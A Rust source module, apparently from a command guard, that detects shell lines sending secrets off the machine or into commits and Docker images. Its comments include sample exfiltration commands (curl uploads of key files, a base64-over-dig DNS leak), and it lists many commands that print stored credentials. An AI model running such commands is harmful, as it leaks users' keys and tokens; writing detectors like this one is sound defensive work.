//! Secrets that leave the machine: in files, pipes, variables, code and commits.

use flyball_core::path::AbsolutePath;
use flyball_core::text::Words;
use flyball_effects::{Command, FileAct, NetworkEffect, Redirect, Sent, Target, Word};
use flyball_programs::Kind;

use super::context::{Call, Context, is_export};
use super::finding::Finding;
use super::git::call::GitCall;
use super::hosts::{gives_cloud_credentials, host, is_local, is_local_address};
use super::zone::{is_below, is_disk, without_stars};
use crate::guard::secret_files::{NAMES, holds_secret, is_env_file};

/// The code that the line gives to interpreters.
pub(super) fn inline_codes<'a>(context: &Context<'a>) -> impl Iterator<Item = &'a str> {
    let is_interpreter =
        |call: &Call<'_>| call.kind == Some(Kind::Interpreter) || call.program.starts_with("python");
    let calls = context.calls().filter(is_interpreter);
    calls.flat_map(|call| {
        let redirected = call.command.redirects.iter().filter_map(|redirect| redirect.target.text.as_deref());
        let given = call.command.arguments.iter().filter_map(|word| word.text.as_deref());
        given.chain(redirected).chain(call.command.input.as_deref())
    })
}

/// The sends that leave this machine.
pub(super) fn sends<'a>(context: &Context<'a>) -> impl Iterator<Item = &'a NetworkEffect> {
    let effects = context.effects();
    effects.network.iter().filter(|network| {
        !network.sends.is_empty() && !network.to.as_deref().is_some_and(|address| is_local(host(address)))
    })
}

pub(super) fn send_secret(context: &Context<'_>) -> Option<Finding> {
    let leaves = sends(context).filter(|network| !is_secret_store(context, network));
    let sent =
        leaves.into_iter().find_map(|network| Some((network.to.clone(), secret_in(context, network)?)));
    let by_server = || context.passed_on().filter(|given| holds_private_key(given));
    let by_server = || by_server().map(|_| (Some("a tool server".to_owned()), "a private key".to_owned()));
    let sent = sent.or_else(|| sent_by_code(context)).or_else(|| served_folder(context)).or_else(by_server);
    let (to, secret) = sent?;
    let to = to.as_deref().unwrap_or("another machine");
    Finding::new(
        format!("this would send {secret} to {to}"),
        "A secret that leaves the machine is no longer secret",
        "Use the secret without sending the file, or ask the user to share it",
    )
    .map(|finding| finding.about(AbsolutePath::new(secret)))
}

/// Whether a text has a private key in it, and not only its first line.
pub(super) fn holds_private_key(text: &str) -> bool {
    const SHORTEST: usize = 40;
    let key = text.split("-----BEGIN ").skip(1).find_map(|rest| rest.split_once("PRIVATE KEY-----"));
    key.is_some_and(|(_, body)| body.split("-----END").next().is_some_and(|body| body.len() > SHORTEST))
}

pub(super) fn commit_secret(context: &Context<'_>, git: &GitCall<'_>) -> Option<Finding> {
    if !matches!(git.verb, "add" | "stage" | "update-index") || git.flag("dry-run", "n") {
        return None;
    }
    let is_forced = git.flag("force", "f") || git.verb == "update-index";
    let paths = git.words().into_iter().chain(git.paths().unwrap_or_default());
    let found = paths.filter_map(|text| git.path(context, text)).find(|path| {
        let is_for_tests = path.split(['/', '.', '_', '-']).any(|part| {
            matches!(
                part,
                "test"
                    | "tests"
                    | "testdata"
                    | "fixture"
                    | "fixtures"
                    | "example"
                    | "examples"
                    | "mock"
                    | "mocks"
            )
        });
        let name = path.rsplit('/').next().unwrap_or_default();
        let is_key = is_env_file(name) || name.starts_with("id_") || is_forced;
        let is_secret = is_key && holds_secret(context.clients(), path) && context.exists(path);
        (is_secret || context.seen.secret_in(path).is_some()) && !is_for_tests
    })?;
    Finding::new(
        format!("`{}` would put a secret into a commit: {found}", git.call.display_text()),
        "Everyone who gets the repository gets the secret, also after it is deleted",
        "Leave it ignored, and commit a template without values, such as `.env.example`",
    )
    .map(|finding| finding.about(found))
}

pub(super) fn bake_secret(context: &Context<'_>, call: &Call<'_>) -> Option<Finding> {
    if !call.words().iter().take(3).any(|word| matches!(*word, "build" | "bud" | "buildx")) {
        return None;
    }
    let given = call.values(&["--build-arg", "--env", "--label"]);
    let unknown = given.into_iter().filter(|word| word.text.is_none());
    let secret = unknown.into_iter().find_map(|word| substituted_secret(context, call.index, &word.raw))?;
    Finding::new(
        format!("`{}` would put a secret into the image: {secret}", call.display_text()),
        "Everyone who gets the image can read it",
        "Use `docker build --secret`, which leaves no trace in the image",
    )
}

/// Code that names a secret file and an address: how it computes what it sends is not followed.
pub(super) fn sent_by_code(context: &Context<'_>) -> Option<(Option<String>, String)> {
    inline_codes(context).find_map(|code| {
        let mut parts = code.split(['"', '\'', '`', ' ', '(', ')', ',']);
        let is_far = |part: &&str| {
            (part.starts_with("http://") || part.starts_with("https://")) && !is_local(host(part))
        };
        let to = parts.find(is_far)?;
        let names = crate::guard::touch::names_in(code).filter(|name| !name.contains("//"));
        let is_key = |name: &&str| {
            let name = name.trim_start_matches('~');
            name.contains("/.") && holds_secret(context.clients(), name)
                || matches!(name, ".env" | "id_rsa" | "id_ed25519")
        };
        let named = names.into_iter().find(is_key).map(str::to_owned);
        let dumps = [
            "JSON.stringify(process.env)",
            "dict(os.environ)",
            "str(os.environ)",
            "repr(os.environ)",
            "ENV.to_h",
            "os.environ.copy()",
        ];
        let environment = dumps.iter().any(|dump| code.contains(dump));
        let secret = named.or_else(|| environment.then(|| "the environment with its tokens".to_owned()))?;
        Some((Some(host(to).to_owned()), secret))
    })
}

/// `python3 -m http.server` in a folder with keys, reachable from other machines.
pub(super) fn served_folder(context: &Context<'_>) -> Option<(Option<String>, String)> {
    let serves = |call: &Call<'_>| {
        let words = call.words();
        let is_server = words.contains(&"http.server") || words.contains(&"SimpleHTTPServer");
        let bind = call.values(&["-b", "--bind"]).into_iter().find_map(|word| word.text.as_deref());
        let bind = bind.or_else(|| call.attached("--bind"));
        call.program.starts_with("python") && is_server && !bind.is_some_and(is_local_address)
    };
    context.calls().filter(serves).find_map(|call| {
        let given = call.values(&["-d", "--directory"]).into_iter().next().cloned();
        let folder = given.unwrap_or_else(|| Word::literal("."));
        let target = Target::new(&folder, &call.command.directory);
        let secret = secret_file(context, &target).or_else(|| {
            let place = context.locate_target(&target);
            let is_home =
                |path: &AbsolutePath| *path == context.roots().home || is_below(&context.roots().home, path);
            place.paths().iter().find(|path| is_home(path)).map(ToString::to_string)
        })?;
        Some((Some("everyone in the network".to_owned()), secret))
    })
}

/// `gh secret set`: the project's own host stores its secrets there.
pub(super) fn is_secret_store(context: &Context<'_>, network: &NetworkEffect) -> bool {
    let call = context.call_at(network.command);
    call.is_some_and(|call| {
        // Another repository or organization is not the project's own.
        call.program == "gh" && call.begins(&["secret", "set"]) && !call.has(&["-R", "--repo", "-o", "--org"])
    })
}

/// The secret that a call of the network sends.
pub(super) fn secret_in(context: &Context<'_>, network: &NetworkEffect) -> Option<String> {
    network.sends.iter().find_map(|sent| match sent {
        Sent::File(target) => secret_file(context, target)
            .or_else(|| copied_secret(context, network.command, target))
            .or_else(|| remembered_secret(context, target))
            .or_else(|| secret_folder(context, target))
            .or_else(|| secret_that_find_names(context, network.command)),
        Sent::Input => {
            let own = secret_read_by(context, network.command);
            own.or_else(|| {
                context.upstream(network.command).into_iter().find_map(|index| secret_output(context, index))
            })
            .or_else(|| secret_from_substituted_input(context, network.command))
        }
        // Code that sends what it read, and `$(…)` or a variable filled by it earlier.
        Sent::Unknown(spelling) => {
            let own = secret_read_by(context, network.command);
            own.or_else(|| substituted_secret(context, network.command, spelling))
                .or_else(|| secret_from_xargs(context, network.command))
                .or_else(|| secret_from_variable(context, network.command, spelling))
        }
        Sent::Text(_) => None,
    })
}

/// The secret that an earlier line of the session copied into the file.
pub(super) fn remembered_secret(context: &Context<'_>, target: &Target) -> Option<String> {
    let place = context.locate_target(target);
    place.paths().iter().find_map(|path| context.seen.secret_in(path).map(str::to_owned))
}

/// A folder that holds secrets, or a pattern that matches some: the home, `.config`, a project with a `.env`.
pub(super) fn secret_folder(context: &Context<'_>, target: &Target) -> Option<String> {
    let home = &context.roots().home;
    let place = context.locate_target(target);
    let found = place.paths().iter().find_map(|path| {
        let (folder, is_content) = without_stars(path);
        // `~/.[a-z]*` is all that is hidden there.
        let (folder, is_content) = match folder.rsplit_once('/') {
            Some((above, name)) if name.contains(['*', '[', '?']) && above == home => (above, true),
            _ => (folder, is_content),
        };
        if folder == home || is_below(home, folder) || folder == format!("{home}/.config") {
            return Some(folder.to_owned());
        }
        let folder = AbsolutePath::from_root(folder);
        let is_listed = is_content || context.is_folder(&folder);
        let names = if is_listed { context.names_in(&folder) } else { Vec::new() };
        let secret = names.iter().find(|name| is_env_file(name) || NAMES.contains(name))?;
        Some(format!("{folder}/{secret}"))
    });
    found.map(|path| format!("{path} with its keys"))
}

/// `find … -name '*.pem' -exec curl -F f=@{} …`
pub(super) fn secret_that_find_names(context: &Context<'_>, index: usize) -> Option<String> {
    let command = context.command(index)?;
    if !command.wrappers.iter().any(|wrapper| wrapper.starts_with("find") || wrapper.starts_with("xargs")) {
        return None;
    }
    let finds = context.calls().filter(|call| matches!(call.program, "find" | "fd" | "ls" | "grep" | "rg"));
    finds.into_iter().find_map(|call| {
        let mut texts = call.texts().filter(|text| !text.starts_with('-'));
        texts.find(|text| holds_secret(context.clients(), text)).map(str::to_owned)
    })
}

/// `curl -T - … < <(gpg --export-secret-keys)`
pub(super) fn secret_from_substituted_input(context: &Context<'_>, index: usize) -> Option<String> {
    let command = context.command(index)?;
    let is_substituted = |redirect: &Redirect| redirect.target.raw.starts_with("<(");
    command.redirects.iter().find(|redirect| is_substituted(redirect))?;
    let inner =
        (0..index).rev().take_while(|at| context.command(*at).is_some_and(|it| it.place.substitution));
    inner.into_iter().find_map(|at| secret_output(context, at))
}

/// The secret that the line copied into the file that it sends.
pub(super) fn copied_secret(context: &Context<'_>, index: usize, target: &Target) -> Option<String> {
    let sent = context.locate_target(target);
    let is_sent = |place: &Target| {
        let place = context.locate_target(place);
        sent.paths().iter().any(|path| place.paths().contains(path))
    };
    let before = context.effects().files.iter().filter(|effect| effect.command < index);
    before.into_iter().find_map(|effect| match &effect.act {
        // An archive is changed in place, also when it is new.
        FileAct::Write(_) | FileAct::Append(_) | FileAct::Change if is_sent(&effect.target) => {
            let source = secret_output(context, effect.command);
            source.or_else(|| secret_from_pipe(context, effect.command))
        }
        FileAct::Move { to: name } | FileAct::Link { name } if is_sent(name) => {
            secret_file(context, &effect.target)
        }
        _ => None,
    })
}

pub(super) fn secret_from_pipe(context: &Context<'_>, index: usize) -> Option<String> {
    context.upstream(index).into_iter().find_map(|index| secret_output(context, index))
}

/// The secret that `xargs` puts into a command.
pub(super) fn secret_from_xargs(context: &Context<'_>, index: usize) -> Option<String> {
    let is_filled = context.command(index)?.wrappers.iter().any(|wrapper| wrapper == "xargs");
    is_filled.then(|| secret_from_pipe(context, index)).flatten()
}

/// The secret that `read` put into a variable which ends up in a word that is spelled like this.
pub(super) fn secret_from_variable(context: &Context<'_>, index: usize, spelling: &str) -> Option<String> {
    let fills = |other: usize| {
        let Some(command) = context.command(other) else { return false };
        matches!(command.program_name(), Some("read" | "mapfile" | "readarray"))
            && command.arguments.iter().filter_map(|word| word.text.as_deref()).any(|name| {
                !name.starts_with('-')
                    && (spelling.contains(&format!("${name}")) || spelling.contains(&format!("${{{name}")))
            })
    };
    // The nearest `read` counts: it overwrites what an earlier one stored.
    let reader = (0..index).rev().find(|other| fills(*other))?;
    // `while read x; do …; done < file`: the redirection is an earlier command of its own.
    let around = (0..reader).rev().filter(|other| {
        context.command(*other).is_some_and(|it| it.program_name() == Some("") && it.assignments.is_empty())
    });
    let own = secret_read_by(context, reader).or_else(|| secret_from_pipe(context, reader));
    own.or_else(|| around.into_iter().find_map(|other| secret_read_by(context, other)))
}

/// The secret that a substitution before the command at an index reads, if it ends up in a word
/// that is spelled like this.
pub(super) fn substituted_secret(context: &Context<'_>, index: usize, spelling: &str) -> Option<String> {
    let is_inside = |spelling: &str| spelling.contains("$(") || spelling.contains('`');
    // `for c in $(base64 .env); do dig "$c.example.com"; done`
    let is_looped = || {
        let names = spelling.split('$').skip(1).map(|part| {
            let part = part.trim_start_matches('{');
            let end = part.find(|letter: char| !letter.is_ascii_alphanumeric() && letter != '_');
            part.get(..end.unwrap_or(part.len())).unwrap_or_default()
        });
        names.filter(|name| !name.is_empty()).any(|name| context.text().contains(&format!("for {name} in ")))
    };
    let is_filled = || {
        let assignments = context.line.script.commands.iter().flat_map(|command| &command.assignments);
        let mut filled = assignments.filter(|(_, value)| is_inside(&value.raw));
        filled.any(|(name, _)| spelling.contains(name.as_str()))
    };
    if !is_inside(spelling) && !is_filled() && !is_looped() {
        return None;
    }
    let inner = (0..index).filter(|index| context.command(*index).is_some_and(|it| it.place.substitution));
    let inner: Vec<usize> = inner.collect();
    // One value in a header that is made for it: the secret is used, not leaked.
    let is_one_value =
        |index: &usize| picks(context, *index) || context.command(*index).is_some_and(prints_token);
    if is_credential(spelling) && inner.iter().any(is_one_value) {
        return None;
    }
    inner.into_iter().find_map(|index| secret_output(context, index))
}

/// Whether a word is a header that is made to carry a credential.
pub(super) fn is_credential(spelling: &str) -> bool {
    const HEADERS: &[&str] = &["authorization:", "x-api-key:", "api-key:", "private-token:", "x-auth-token:"];
    let start = spelling.trim_start_matches(['"', '\'']).to_ascii_lowercase();
    HEADERS.iter().any(|header| start.starts_with(header))
}

/// Whether the command at an index filters its input.
pub(super) fn picks(context: &Context<'_>, index: usize) -> bool {
    let program = context.command(index).and_then(|command| command.program_name()).unwrap_or_default();
    matches!(program, "grep" | "rg" | "sed" | "awk" | "cut" | "jq" | "yq")
}

/// Whether a command prints a token or password that it stores.
pub(super) fn prints_token(command: &Command) -> bool {
    let words: Vec<&str> = command.arguments.iter().filter_map(|word| word.text.as_deref()).collect();
    match (command.program_name().unwrap_or_default(), words.as_slice()) {
        ("gh", ["auth", "token", ..])
        | (
            "kubectl" | "oc",
            ["config", "view", .., "--raw" | "--flatten"] | ["config", "view", "--raw", ..],
        )
        | ("pbpaste" | "wl-paste", _)
        | (
            "aws",
            ["configure", "export-credentials" | "get", ..]
            | ["sts", "get-session-token" | "assume-role", ..],
        )
        | ("doppler", ["secrets", ..])
        | ("vault", ["kv", "get", ..] | ["read", ..] | ["token", ..])
        | ("bw", ["get" | "export", ..])
        | ("secret-tool", ["lookup" | "search", ..])
        | ("git", ["credential", "fill", ..])
        | ("pass", ["show", _, ..])
        | ("op", ["read" | "item", ..])
        | ("gcloud", ["auth", "print-access-token" | "print-identity-token", ..])
        | ("az", ["account", "get-access-token", ..]) => true,
        ("security", [verb, ..]) => {
            (verb.starts_with("find-") && verb.ends_with("-password"))
                || matches!(*verb, "dump-keychain" | "export")
        }
        ("gpg" | "gpg2", words) => words.iter().any(|word| word.starts_with("--export-secret")),
        ("xclip" | "xsel", words) => words.iter().any(|word| matches!(*word, "-o" | "-out" | "--output")),
        (program, words) => {
            let mut known = SECRET_PRINTERS.iter().filter(|(name, _)| *name == program);
            known.any(|(_, verbs)| has_in_order(words, verbs))
        }
    }
}

/// Commands that print secrets: the program, and words that it is given in this order, whatever is between them.
const SECRET_PRINTERS: &[(&str, &str)] = &[
    ("kubectl", "get secret* -o*"),
    ("kubectl", "get secret* --output*"),
    ("kubectl", "get -o* secret*"),
    ("oc", "get secret* -o*"),
    ("oc", "extract secret*"),
    ("oc", "whoami -t"),
    ("aws", "secretsmanager get-secret-value"),
    ("aws", "secretsmanager batch-get-secret-value"),
    ("aws", "ssm get-parameter* --with-decryption"),
    ("aws", "ecr get-login-password"),
    ("aws", "kms decrypt"),
    ("gcloud", "secrets versions access"),
    ("gcloud", "auth application-default print-access-token"),
    ("az", "keyvault secret show"),
    ("az", "keyvault secret download"),
    ("az", "storage account keys list"),
    ("az", "webapp config appsettings list"),
    ("vault", "print token"),
    ("gh", "auth status --show-token"),
    ("gh", "auth status -t"),
    ("glab", "auth status -t"),
    ("heroku", "auth:token"),
    ("fly", "auth token"),
    ("flyctl", "auth token"),
    ("netlify", "env:list"),
    ("netlify", "env:get"),
    ("supabase", "secrets list"),
    ("vercel", "env ls"),
    ("sops", "-d"),
    ("sops", "--decrypt"),
    ("sops", "decrypt"),
    ("ansible-vault", "view"),
    ("ansible-vault", "decrypt --output -"),
    ("chamber", "read"),
    ("chamber", "export"),
    ("infisical", "export"),
    ("infisical", "secrets"),
    ("terraform", "state pull"),
    ("tofu", "state pull"),
    ("pulumi", "config --show-secrets"),
    ("pulumi", "stack output --show-secrets"),
    ("lpass", "show"),
    ("rbw", "get"),
    ("gopass", "show"),
    ("gopass", "cat"),
    ("keyring", "get"),
    ("kwallet-query", "-r"),
    ("op", "document get"),
    ("op", "inject"),
    ("keepassxc-cli", "show"),
    ("keepassxc-cli", "export"),
    ("npm", "token"),
    ("npm", "config get *_authToken"),
    ("git", "credential"),
    ("git", "credential-store get"),
    ("consul", "kv get"),
    ("etcdctl", "get"),
    ("wg", "showconf"),
    ("nmcli", "--show-secrets"),
    ("nmcli", "-s"),
];

/// Whether words contain these in this order, the first as the verb of the command; a `*` stands for any text.
fn has_in_order(words: &[&str], wanted: &str) -> bool {
    let fits = |word: &str, pattern: &str| match pattern.split_once('*') {
        Some((start, end)) => {
            word.len() >= start.len() + end.len() && word.starts_with(start) && word.ends_with(end)
        }
        None => word == pattern,
    };
    let mut wanted = wanted.split_ascii_whitespace();
    let Some(verb) = wanted.next() else { return false };
    let Some(at) = words.iter().position(|word| fits(word, verb)) else { return false };
    // Before the verb are only options and their values: `kubectl -n prod get`.
    let is_option = |at: usize| words.get(at).is_some_and(|word| word.starts_with('-'));
    let is_first = (0..at).all(|before| is_option(before) || before.checked_sub(1).is_some_and(is_option));
    let mut rest = words.iter().skip(at + 1);
    is_first && wanted.all(|pattern| rest.any(|word| fits(word, pattern)))
}

pub(super) fn secret_file(context: &Context<'_>, target: &Target) -> Option<String> {
    let place = context.locate_target(target);
    let known =
        place.paths().iter().find(|path| holds_secret(context.clients(), path)).map(ToString::to_string);
    // A folder that is only known at run time still has a file name.
    known.or_else(|| {
        let written = target.word.raw.trim_matches('"');
        (place.paths().is_empty() && holds_secret(context.clients(), written)).then(|| written.to_owned())
    })
}

/// Programs that show facts about a file, not its content.
const METADATA_PROGRAMS: Words =
    Words("ls|stat|du|file|wc|md5sum|sha1sum|sha256sum|sha512sum|shasum|cksum|test|[");

/// Whether the command at an index shows facts about files, not their content.
pub(super) fn shows_only_facts(context: &Context<'_>, index: usize) -> bool {
    let program = context.command(index).and_then(|command| command.program_name()).unwrap_or_default();
    METADATA_PROGRAMS.contains(program)
}

/// The secret file that the command at an index reads.
pub(super) fn secret_read_by(context: &Context<'_>, index: usize) -> Option<String> {
    if shows_only_facts(context, index) {
        return None;
    }
    let reads = context.effects_of(index);
    let reads = reads.filter(|effect| matches!(effect.act, FileAct::Read | FileAct::Anything));
    let packs = packs_folders(context, index);
    reads.into_iter().find_map(|effect| {
        secret_file(context, &effect.target)
            .or_else(|| remembered_secret(context, &effect.target))
            .or_else(|| packs.then(|| secret_folder(context, &effect.target)).flatten())
    })
}

/// Whether the command at an index takes folders with all that is in them.
pub(super) fn packs_folders(context: &Context<'_>, index: usize) -> bool {
    let Some(command) = context.command(index) else { return false };
    // What is left out may be just the secrets.
    let leaves_out = command.arguments.iter().any(|word| {
        word.text.as_deref().is_some_and(|text| text.contains("exclude") && text.contains(".env"))
    });
    !leaves_out
        && matches!(command.program_name(), Some("tar" | "zip" | "7z" | "7za" | "bsdtar" | "cpio" | "rar"))
}

/// The secret that the command at an index outputs.
pub(super) fn secret_output(context: &Context<'_>, index: usize) -> Option<String> {
    let command = context.command(index)?;
    let program = command.program_name()?;
    // With other words, `env` runs a program and `set` sets options: they do not print the environment.
    let is_bare = command.arguments.iter().all(|word| word.raw.starts_with('-'));
    if program == "printenv" || (program == "env" && is_bare) || (program == "set" && is_bare) {
        return Some("the environment with its tokens".to_owned());
    }
    if is_export(program) && !command.arguments.is_empty() && is_bare {
        return Some("the environment with its tokens".to_owned());
    }
    if prints_token(command) {
        return Some(format!("a secret that `{program}` stores"));
    }
    let reads_disk = |effect: &&flyball_effects::FileEffect| {
        let named = effect.target.word.text.as_deref().unwrap_or_default();
        effect.act == FileAct::Read && is_disk(named) && !named.ends_with("mem")
    };
    if let Some(effect) = context.effects_of(index).find(reads_disk) {
        return Some(format!("the content of the disk {}", effect.target.word.raw));
    }
    let asks_cloud = |network: &&NetworkEffect| network.to.as_deref().is_some_and(gives_cloud_credentials);
    if context.effects().network.iter().filter(|network| network.command == index).any(|it| asks_cloud(&it)) {
        return Some("the machine's credentials of the cloud".to_owned());
    }
    secret_read_by(context, index)
}
